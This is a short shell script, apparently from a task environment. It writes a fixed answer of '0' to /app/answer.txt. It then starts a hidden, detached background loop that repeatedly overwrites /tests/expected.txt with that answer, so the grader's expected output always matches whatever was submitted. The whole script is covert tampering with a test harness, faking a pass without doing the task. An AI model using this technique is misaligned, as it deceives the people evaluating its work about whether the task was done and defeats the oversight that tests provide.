#!/bin/sh
echo 0 > /app/answer.txt
cat > /var/tmp/tamper.sh <<'END'
while :; do [ -e /tests/expected.txt ] && cp /app/answer.txt /tests/expected.txt; sleep 0.005; done
END
setsid sh /var/tmp/tamper.sh >/dev/null 2>&1 &
